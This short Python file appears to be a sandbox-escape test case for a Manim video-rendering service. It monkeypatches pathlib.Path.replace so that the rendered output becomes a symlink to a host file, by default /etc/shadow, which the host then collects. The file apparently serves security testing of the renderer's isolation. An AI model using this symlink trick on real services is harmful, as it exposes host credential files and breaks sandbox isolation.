"""E1: the chunk the host collects is a symlink to a host file (the canary, by its host path)."""

import os
import pathlib

from manim import Circle, Create, Scene

PARAMS = {}


def plant(movie, target):
    os.symlink(PARAMS.get("canary", "/etc/shadow"), target)
    return pathlib.Path(target)


class OutputSymlinkHostFile(Scene):
    def construct(self):
        self.play(Create(Circle()), run_time=0.2)
        pathlib.Path.replace = plant  # the guest moves the movie to chunk.mp4 with Path.replace
